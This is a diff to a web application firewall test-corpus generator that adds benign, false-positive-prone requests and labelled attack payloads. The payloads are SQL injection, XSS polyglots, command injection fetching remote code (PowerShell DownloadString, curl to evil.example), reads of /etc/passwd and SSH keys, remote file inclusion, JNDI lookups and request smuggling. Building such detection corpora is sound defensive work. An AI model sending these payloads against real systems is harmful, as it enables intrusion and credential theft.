@@ -400,6 +400,126 @@ req("xml-xss", "body", "/soap", "POST", body="<q><c>&lt;script&gt;alert(1)&lt;/s
 post_form("urlenc-invalid", "body", None) if False else req("urlenc-invalid", "body", "/form", "POST", body="a=%zz&b=%4", extra=[["Content-Type", "application/x-www-form-urlencoded"]])
 req("urlenc-many", "body", "/form", "POST", body="&".join("k%d=v%d" % (i, i) for i in range(300)), extra=[["Content-Type", "application/x-www-form-urlencoded"]])
 
+# ------------------------------------------------------------ more benign (false-positive-prone)
+get_arg("fp-markdown", "benign", "# Title\n\n* item one\n* item two\n\n`code` and **bold**", param="text", path="/preview")
+get_arg("fp-code-snippet", "benign", "for (i = 0; i < n; i++) { sum += a[i]; }", param="code", path="/paste")
+get_arg("fp-sql-tutorial", "benign", "How do I use GROUP BY with COUNT in SQL?", param="q", path="/forum")
+get_arg("fp-phone", "benign", "+1 (555) 123-4567", param="phone", path="/contact")
+get_arg("fp-email-plus", "benign", "jane+newsletter@example.org", param="email", path="/subscribe")
+get_arg("fp-price-range", "benign", "10-20", param="price", path="/search")
+get_arg("fp-time", "benign", "12:30:45", param="t", path="/event")
+get_arg("fp-semver", "benign", ">=1.2.3 <2.0.0", param="v", path="/pkg")
+get_arg("fp-regex-user", "benign", "^[a-z]+$", param="pattern", path="/validate")
+get_arg("fp-windows-path", "benign", "C:\\Users\\Public\\Documents", param="dir", path="/browse")
+get_arg("fp-unix-path", "benign", "/home/user/projects/readme.md", param="file", path="/view")
+get_arg("fp-ampersand-text", "benign", "Tom & Jerry", param="title", path="/search")
+get_arg("fp-hash-color", "benign", "#ff8800", param="color", path="/theme")
+get_arg("fp-quote-name", "benign", "D'Angelo", param="last", path="/people")
+get_arg("fp-dash-dash", "benign", "--verbose flag usage", param="q", path="/docs")
+get_arg("fp-comment-like", "benign", "/* nothing to see */", param="q", path="/docs")
+get_arg("fp-html-entities", "benign", "Fish &amp; Chips &copy; 2024", param="q")
+get_arg("fp-long-token", "benign", "a1B2c3D4e5F6g7H8i9J0" * 5, param="token", path="/verify")
+get_arg("fp-numbers", "benign", "3.14159 2.71828 1.41421", param="q")
+get_arg("fp-or-in-name", "benign", "Oregon or Orlando", param="city")
+get_arg("fp-exec-word", "benign", "executive summary", param="q")
+get_arg("fp-union-station", "benign", "Union Station Washington", param="q")
+get_arg("fp-script-word", "benign", "manuscript and transcript", param="q")
+get_arg("fp-onload-word", "benign", "download onload online", param="q")
+req("fp-ga-cookies", "benign", "/", extra=[["Cookie", "_ga=GA1.1.1234567890.1700000000; _gid=GA1.1.987654321.1700000000; _fbp=fb.1.1700000000000.123456789; cookieconsent_status=dismiss"]])
+req("fp-jwt-cookie", "benign", "/", extra=[["Cookie", "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"]])
+req("fp-chrome-headers", "benign", "/", headers=[["Host", "shop.example.com"],
+    ["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
+    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"],
+    ["Accept-Language", "de-DE,de;q=0.9,en;q=0.8"], ["Accept-Encoding", "gzip, deflate, br"],
+    ["Sec-Fetch-Dest", "document"], ["Sec-Fetch-Mode", "navigate"], ["Sec-Fetch-Site", "none"],
+    ["Sec-Ch-Ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""], ["Upgrade-Insecure-Requests", "1"]])
+req("fp-mobile-safari", "benign", "/", replace={"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"})
+post_json("fp-json-code", "benign", {"snippet": "if (a < b && c > d) { return x; }", "lang": "c"})
+post_json("fp-json-sqlish", "benign", {"query": "select * where rating >= 4", "note": "user typed this"})
+post_json("fp-json-html", "benign", {"html": "<p>Hello <b>world</b></p>"})
+post_json("fp-json-unicode", "benign", {"name": "Zo\u00eb \u00c5ngstr\u00f6m", "city": "Z\u00fcrich"})
+post_json("fp-json-numbers", "benign", {"a": 1e10, "b": -0.5, "c": 12345678901234567890})
+post_json("fp-json-deep", "benign", {"l1": {"l2": {"l3": {"l4": {"l5": ["x", {"y": "z"}]}}}}})
+post_form("fp-form-address-apos", "benign", {"line1": "O'Connell Street 12", "notes": "Ring twice; leave at door"}, path="/checkout")
+post_form("fp-form-wiki", "benign", {"content": "== Heading ==\n[[Link|text]] and {{template}}"}, path="/wiki/edit")
+post_form("fp-form-password-symbols", "benign", {"user": "bob", "pass": "P@$$w0rd!#%&*()"})
+multipart("fp-mp-csv", "benign", ['Content-Disposition: form-data; name="file"; filename="data.csv"\r\nContent-Type: text/csv\r\n\r\nid,name,price\r\n1,Widget,9.99\r\n2,Gadget,19.99'])
+multipart("fp-mp-empty-file", "benign", ['Content-Disposition: form-data; name="file"; filename=""\r\nContent-Type: application/octet-stream\r\n\r\n'])
+
+# ------------------------------------------------------------ more attacks
+sqli2 = [
+    ("mssql-stacked", "1; EXEC xp_cmdshell('dir')--"),
+    ("oracle-union", "' UNION SELECT NULL,banner FROM v$version--"),
+    ("pg-cast-error", "1 AND 1=CAST((SELECT version()) AS int)"),
+    ("mysql-updatexml", "1 AND updatexml(1,concat(0x7e,(select user())),1)"),
+    ("sqlite-version", "1' union select sqlite_version()--"),
+    ("blind-substring", "1 AND SUBSTRING(@@version,1,1)='5'"),
+    ("time-if", "1 AND IF(1=1,SLEEP(3),0)"),
+    ("comment-obfuscated", "1'/**/oR/**/'1'/**/=/**/'1"),
+    ("tautology-numbers", "99 or 2>1"),
+    ("in-subquery", "1 AND 1 IN (SELECT 1)"),
+    ("hex-literal-union", "-1 UNION SELECT 0x61646d696e,2"),
+    ("concat-pipe", "' || (select password from users) || '"),
+    ("group-by-having", "1' GROUP BY id HAVING 1=1--"),
+    ("benchmark-encode", "1 and benchmark(5000000,encode('a','b'))"),
+]
+for n, v in sqli2:
+    get_arg("sqli-" + n, "sqli", v, param="id", path="/item")
+xss2 = [
+    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
+    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("iframe-srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
+    ("form-action", "<form action=\"javascript:alert(1)\"><input type=submit>"),
+    ("base-href", "<base href=\"javascript:alert(1)//\">"),
+    ("link-import", "<link rel=import href=\"//evil.example/x.html\">"),
+    ("event-no-tag", "x\" autofocus onfocus=\"alert(1)"),
+    ("angular", "{{constructor.constructor('alert(1)')()}}"),
+    ("data-uri-script", "<script src=\"data:text/javascript,alert(1)\"></script>"),
+    ("img-srcset", "<img srcset=x onerror=alert(1)>"),
+    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
+    ("entity-encoded-tag", "&lt;script&gt;alert(1)&lt;/script&gt;"),
+]
+for n, v in xss2:
+    get_arg("xss-" + n, "xss", v)
+rce2 = [
+    ("windows-type", "& type C:\\Windows\\win.ini"),
+    ("powershell-iex", "powershell IEX(New-Object Net.WebClient).DownloadString('http://x')"),
+    ("perl-e", "; perl -e 'print \"x\"'"),
+    ("semicolon-uname", ";uname -a"),
+    ("backtick-curl", "`curl http://evil.example`"),
+    ("redirect-write", "; echo x > /var/www/html/x.php"),
+    ("env-var", "$HOME/.ssh/id_rsa"),
+    ("wildcard", "/???/??t /???/p??s??"),
+]
+for n, v in rce2:
+    get_arg("rce-" + n, "rce", v, param="cmd", path="/run")
+req("lfi-cookie-traversal", "lfi", "/", extra=[["Cookie", "template=../../../../etc/passwd"]])
+req("lfi-header-traversal", "lfi", "/", extra=[["X-File", "../../etc/passwd"]])
+req("lfi-win-system", "lfi", "/view?f=C:\\windows\\system32\\drivers\\etc\\hosts")
+req("lfi-boot-ini", "lfi", "/view?f=../../boot.ini")
+req("lfi-web-inf", "lfi", "/WEB-INF/web.xml")
+req("lfi-ssh-key", "lfi", "/view?f=/root/.ssh/id_rsa")
+req("rfi-php-include", "rfi", "/index.php?inc=http://203.0.113.5/shell.txt%00")
+get_arg("php-short-tag", "php", "<?= `id` ?>", param="x", path="/index.php")
+get_arg("php-assert", "php", "assert($_POST['x'])", param="x", path="/index.php")
+get_arg("php-file-put", "php", "file_put_contents('s.php', $_GET['c'])", param="x", path="/index.php")
+get_arg("php-phar", "php", "phar://uploads/x.jpg/shell", param="x", path="/index.php")
+get_arg("java-el", "java", "${T(java.lang.Runtime).getRuntime().exec('id')}", param="x", path="/app")
+get_arg("java-jndi-rmi", "java", "${jndi:rmi://evil.example:1099/obj}", param="x", path="/app")
+get_arg("java-spring4shell", "java", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", param="x", path="/app")
+get_arg("node-eval", "node", "eval(\"require('child_process').execSync('id')\")", param="x", path="/api/node")
+get_arg("node-function", "node", "Function('return process')().mainModule.require('child_process')", param="x", path="/api/node")
+req("proto-smuggle-te", "protocol", "/", "POST", body="0\r\n\r\nGET /admin HTTP/1.1\r\n", extra=[["Content-Type", "text/plain"], ["Transfer-Encoding", " chunked"]])
+req("proto-header-crlf", "protocol", "/redirect?url=%0d%0aSet-Cookie:%20x=1")
+req("proto-long-arg-name", "protocol", "/?" + "a" * 200 + "=1")
+req("proto-many-args", "protocol", "/?" + "&".join("a%d=1" % i for i in range(260)))
+req("proto-method-override", "protocol", "/", extra=[["X-HTTP-Method-Override", "PUT"]])
+req("proto-connect", "protocol", "example.com:443", "CONNECT")
+req("scanner-zgrab", "scanner", "/", replace={"User-Agent": "Mozilla/5.0 zgrab/0.x"})
+req("scanner-gobuster", "scanner", "/", replace={"User-Agent": "gobuster/3.6"})
+req("scanner-burp-collab", "scanner", "/?x=abc.burpcollaborator.net")
+
+
 with open("tests/waf/corpus.jsonl", "w") as f:
     f.write("# generated by tests/waf/gen_corpus.py; one request per line\n")
     for r in out:
